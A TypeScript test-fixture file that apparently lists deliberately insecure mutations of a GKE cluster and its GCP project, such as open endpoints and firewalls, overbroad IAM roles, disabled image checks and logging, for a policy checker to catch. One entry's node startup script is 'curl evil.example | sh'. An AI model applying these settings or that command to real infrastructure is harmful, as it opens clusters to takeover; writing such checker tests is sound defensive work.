/** The cluster, what is beside it in Google Cloud, and namespaces. */
import { add, all, set } from "../draft";
import type { Tree, Weakening, Weakenings } from "../draft";

const CLUSTER = "cluster:Cluster/cluster";
const POOL = "nodePool:NodePool/cluster-nodes";
const cluster = (path: string, value: unknown): Weakening[1] => set(CLUSTER, path, value);
const pool = (path: string, value: unknown): Weakening[1] => set(POOL, path, value);
const role = (name: string): Weakening[1] => set("iAMMember:IAMMember/cluster-nodes", "role", name);
const gcp = (type: string, inputs: Tree): Weakening[1] => add(`gcp:${type}`, "x", { project: "acme-prod", ...inputs });
const NODES = "serviceAccount:nodes@acme-prod.iam.gserviceaccount.com";
const AUTHORIZED = (blocks: string[]): Weakening[1] =>
  all(
    cluster("controlPlaneEndpointsConfig/ipEndpointsConfig/enabled", true),
    cluster("privateClusterConfig/enablePrivateEndpoint", false),
    cluster("masterAuthorizedNetworksConfig", {
      cidrBlocks: blocks.map((cidrBlock) => ({ cidrBlock, displayName: "x" })),
      gcpPublicCidrsAccessEnabled: false,
      privateEndpointEnforcementEnabled: true,
    }),
  );
export const GOOGLE: Weakenings = {
  "endpoint-halves": ["two halves are the world", AUTHORIZED(["0.0.0.0/1", "128.0.0.0/1"])],
  "endpoint-quarters": ["so are four quarters", AUTHORIZED(["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"])],
  "endpoint-v6": ["the world in IPv6", AUTHORIZED(["::/1", "8000::/1"])],
  "endpoint-enforcement": [
    "the private endpoint is not enforced",
    all(
      AUTHORIZED(["192.0.2.0/24"]),
      cluster("masterAuthorizedNetworksConfig/privateEndpointEnforcementEnabled", false),
    ),
  ],
  "instance-admin-v1": ["the node changes every instance", role("roles/compute.instanceAdmin.v1")],
  "token-creator": ["the node makes tokens of other accounts", role("roles/iam.serviceAccountTokenCreator")],
  "secret-accessor": ["the node reads Secret Manager", role("roles/secretmanager.secretAccessor")],
  "object-viewer": ["the node reads every bucket", role("roles/storage.objectViewer")],
  "custom-role": ["a role that nobody knows", role("projects/acme-prod/roles/x")],
  "account-user": ["the node acts as other accounts", role("roles/iam.serviceAccountUser")],
  "all-users": ["everyone", set("iAMMember:IAMMember/cluster-nodes", "member", "allUsers")],
  "all-authenticated": [
    "every Google account",
    set("iAMMember:IAMMember/cluster-nodes", "member", "allAuthenticatedUsers"),
  ],
  "other-member": ["a person", set("iAMMember:IAMMember/cluster-nodes", "member", "user:x@example.com")],
  "other-project": ["another project", set("iAMMember:IAMMember/cluster-nodes", "project", "acme-shared")],
  "further-member": [
    "a further role",
    gcp("projects/iAMMember:IAMMember", { role: "roles/logging.logWriter", member: "user:x@example.com" }),
  ],
  "iam-binding": [
    "it takes the role from others",
    gcp("projects/iAMBinding:IAMBinding", { role: "roles/container.defaultNodeServiceAccount", members: [NODES] }),
  ],
  "iam-policy": ["it replaces the project's policy", gcp("projects/iAMPolicy:IAMPolicy", { policyData: "{}" })],
  "organization-member": [
    "a role of the organization",
    gcp("organizations/iAMMember:IAMMember", { role: "roles/viewer", member: NODES }),
  ],
  "folder-member": ["a role of a folder", gcp("folder/iAMMember:IAMMember", { role: "roles/viewer", member: NODES })],
  "sa-impersonation": [
    "others act as the nodes",
    gcp("serviceaccount/iAMMember:IAMMember", { role: "roles/iam.serviceAccountUser", member: "user:x@example.com" }),
  ],
  "sa-key": ["a key that never expires", gcp("serviceaccount/key:Key", { serviceAccountId: "x" })],
  "sa-added": ["a further account", gcp("serviceaccount/account:Account", { accountId: "deployer" })],
  "workload-identity-pool": ["accounts of another provider", gcp("iam/workloadIdentityPool:WorkloadIdentityPool", {})],
  "firewall-open": [
    "every port from everywhere",
    gcp("compute/firewall:Firewall", { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp" }] }),
  ],
  "firewall-ssh": [
    "SSH from everywhere",
    gcp("compute/firewall:Firewall", { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["22"] }] }),
  ],
  "public-address": ["an address on the internet", gcp("compute/globalAddress:GlobalAddress", { name: "x" })],
  "network-peering": ["another network", gcp("compute/networkPeering:NetworkPeering", { peerNetwork: "x" })],
  "route-out": [
    "another way out",
    gcp("compute/route:Route", { destRange: "0.0.0.0/0", nextHopGateway: "default-internet-gateway" }),
  ],
  "public-bucket": ["a bucket", gcp("storage/bucket:Bucket", { location: "EU" })],
  "project-metadata": [
    "keys on every instance of the project",
    gcp("compute/projectMetadata:ProjectMetadata", { metadata: { "ssh-keys": "x" } }),
  ],
  instance: ["a machine beside the nodes", gcp("compute/instance:Instance", { machineType: "e2-micro" })],
  "default-network": ["the project's default network", cluster("network", "default")],
  "default-subnetwork": ["its subnet", cluster("subnetwork", "default")],
  "auto-subnetworks": ["subnets in every region", set("network:Network/telemetry-prod", "autoCreateSubnetworks", true)],
  "nat-no-logs": ["nobody sees what leaves", set("routerNat:RouterNat/telemetry-prod", "logConfig/enable", false)],
  "nat-no-logs-unset": ["the same", set("routerNat:RouterNat/telemetry-prod", "logConfig", undefined)],
  "subnet-no-logs": ["no flow logs", set("subnetwork:Subnetwork/telemetry-prod", "logConfig", undefined)],
  "subnet-public": [
    "a subnet for others",
    set("subnetwork:Subnetwork/telemetry-prod", "purpose", "PRIVATE_SERVICE_CONNECT"),
  ],
  "subnet-no-private-access": [
    "images come over the internet",
    set("subnetwork:Subnetwork/telemetry-prod", "privateIpGoogleAccess", false),
  ],
  "dns-tokens": [
    "a stolen token is enough",
    cluster("controlPlaneEndpointsConfig/dnsEndpointConfig/enableK8sTokensViaDns", true),
  ],
  "dns-certs": [
    "a stolen certificate is enough",
    cluster("controlPlaneEndpointsConfig/dnsEndpointConfig/enableK8sCertsViaDns", true),
  ],
  "readonly-port-defaults": [
    "new pools have it open",
    cluster("nodePoolDefaults/nodeConfigDefaults/insecureKubeletReadonlyPortEnabled", "TRUE"),
  ],
  "readonly-port-defaults-unset": ["the same", cluster("nodePoolDefaults", undefined)],
  "binauthz-off": ["any image", cluster("binaryAuthorization/evaluationMode", "DISABLED")],
  "binauthz-allow-all": [
    "the project's policy allows any image",
    gcp("binaryauthorization/policy:Policy", {
      defaultAdmissionRule: { evaluationMode: "ALWAYS_ALLOW", enforcementMode: "ENFORCED_BLOCK_AND_AUDIT_LOG" },
    }),
  ],
  "binauthz-pattern": [
    "every image is on the list",
    gcp("binaryauthorization/policy:Policy", {
      defaultAdmissionRule: {
        evaluationMode: "REQUIRE_ATTESTATION",
        enforcementMode: "ENFORCED_BLOCK_AND_AUDIT_LOG",
        requireAttestationsBies: ["projects/acme-prod/attestors/x"],
      },
      admissionWhitelistPatterns: [{ namePattern: "**" }],
    }),
  ],
  dashboard: ["an old page with every right", cluster("addonsConfig", { kubernetesDashboard: { disabled: false } })],
  "config-connector": [
    "an add-on that makes Google's resources",
    cluster("addonsConfig", { configConnectorConfig: { enabled: true } }),
  ],
  "http-load-balancing": ["Ingress is off", cluster("addonsConfig", { httpLoadBalancing: { disabled: true } })],
  "network-policy-addon": ["two data planes", cluster("networkPolicy", { enabled: false })],
  "dataplane-v1": ["policies are not enforced", cluster("datapathProvider", "LEGACY_DATAPATH")],
  "auto-provisioning": [
    "nodes that nobody sized",
    cluster("clusterAutoscaling", { enabled: true, resourceLimits: [] }),
  ],
  "ssh-keys": ["people log in to nodes", pool("nodeConfig/metadata/ssh-keys", "x:ssh-ed25519 AAAA")],
  "startup-script": [
    "a script as root on every node",
    pool("nodeConfig/metadata/startup-script", "curl evil.example | sh"),
  ],
  "serial-port": ["a console", pool("nodeConfig/metadata/serial-port-enable", "true")],
  "os-login-off": ["keys of the project", pool("nodeConfig/metadata/enable-oslogin", "false")],
  "block-keys-off": ["the same of the default pool", cluster("nodeConfig/metadata/block-project-ssh-keys", "false")],
  "legacy-endpoints": ["the older metadata API", pool("nodeConfig/metadata/disable-legacy-endpoints", "false")],
  "node-tags": ["firewall rules of a tag hold", pool("nodeConfig/tags", ["allow-all"])],
  "node-sysctls": [
    "settings of the kernel",
    pool("nodeConfig/linuxNodeConfig", { sysctls: { "kernel.unprivileged_bpf_disabled": "0" } }),
  ],
  "node-containerd": [
    "a registry that replaces others",
    pool("nodeConfig/containerdConfig", { privateRegistryAccessConfig: { enabled: true } }),
  ],
  "node-sole": ["a sandbox of another kind", pool("nodeConfig/sandboxConfig", { sandboxType: "none" })],
  "node-image-streaming": ["images past the check", pool("nodeConfig/gcfsConfig", { enabled: true })],
  "node-windows": ["Windows nodes", pool("nodeConfig/imageType", "WINDOWS_LTSC_CONTAINERD")],
  "node-static-cpu": ["a kubelet setting", pool("nodeConfig/kubeletConfig/allowedUnsafeSysctls", ["kernel.*"])],
  "nodes-public": ["addresses on the internet", pool("networkConfig/enablePrivateNodes", false)],
  "nodes-public-pods": ["a range of its own", pool("networkConfig/createPodRange", true)],
  "queued-provisioning": ["a pool of another kind", pool("queuedProvisioning", { enabled: true })],
  "upgrade-all": ["no node is left in an upgrade", pool("upgradeSettings/maxUnavailable", 100)],
  "deletion-protection-relabelled": [
    "a label is no reason",
    all(cluster("resourceLabels/environment", "dev"), cluster("deletionProtection", false)),
  ],
  "deletion-protection-unset": ["it must be said", cluster("deletionProtection", undefined)],
  "claims-relabelled": [
    "nor for volumes",
    all(cluster("resourceLabels/environment", "test"), (stack) => {
      stack.protect("PersistentVolumeClaim/jaeger-shop", false);
    }),
  ],
  "database-encryption": [
    "decrypted, which an exemption covers",
    cluster("databaseEncryption", { state: "DECRYPTED" }),
  ],
  "basic-auth": ["a password of the cluster", cluster("masterAuth/username", "admin")],
  "master-global": [
    "other regions reach the control plane",
    cluster("privateClusterConfig/masterGlobalAccessConfig", { enabled: true }),
  ],
  autopilot: ["other nodes than the checked ones", cluster("enableAutopilot", true)],
  tpu: ["a network that Google peers", cluster("enableTpu", true)],
  "host-maintenance": ["the older API", cluster("enableKubernetesBetaApis", { enabledApis: ["x"] })],
  "user-managed-keys": ["keys of others sign tokens", cluster("userManagedKeysConfig", { clusterCa: "x" })],
  "identity-service": ["logins of another provider", cluster("identityServiceConfig", { enabled: true })],
  "min-version": ["an old version", cluster("minMasterVersion", "1.24")],
  notification: ["messages to a topic", cluster("notificationConfig", { pubsub: { enabled: true, topic: "x" } })],
  "workload-pool": [
    "identities of another project",
    cluster("workloadIdentityConfig/workloadPool", "evil.svc.id.goog"),
  ],
  "resource-export": [
    "records of use to a data set",
    cluster("resourceUsageExportConfig", { bigqueryDestination: { datasetId: "x" } }),
  ],
  spot: ["production on nodes that Google takes away", pool("nodeConfig/spot", true)],
  preemptible: ["the same", pool("nodeConfig/preemptible", true)],
  "pool-added": [
    "a pool that nobody hardened",
    gcp("container/nodePool:NodePool", { cluster: "telemetry-prod", nodeCount: 1 }),
  ],
  "cluster-added": ["a second cluster", gcp("container/cluster:Cluster", { name: "x" })],
};
